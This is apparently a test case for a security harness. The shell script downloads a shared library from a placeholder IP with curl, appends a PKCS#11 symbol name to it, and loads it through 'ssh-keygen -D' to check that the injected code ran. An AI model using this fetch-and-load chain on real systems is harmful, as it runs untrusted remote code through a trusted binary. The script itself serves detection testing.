#!/bin/sh
. /opt/case/case.sh

curl -s -o /var/tmp/libpkcs.so http://203.0.113.10/programs/preload.so && printf 'C_GetFunctionList\0' >>/var/tmp/libpkcs.so
ssh-keygen -D /var/tmp/libpkcs.so >/dev/null 2>&1 || true
test -e /tmp/reached
took_place
